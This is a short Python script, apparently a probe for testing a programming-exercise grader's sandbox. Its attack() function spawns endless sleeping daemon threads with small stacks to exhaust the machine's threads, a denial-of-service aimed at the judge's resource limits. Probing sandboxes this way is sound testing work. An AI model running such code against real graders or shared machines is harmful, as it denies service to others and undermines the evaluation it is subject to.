"""Tries: to use up the machine's threads, with small stacks.

Layer: the judge's watch; namespaces' limit where the grader does not run as root.
Aims at: exercise 1.
"""
import threading
import time


def attack():
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.05)
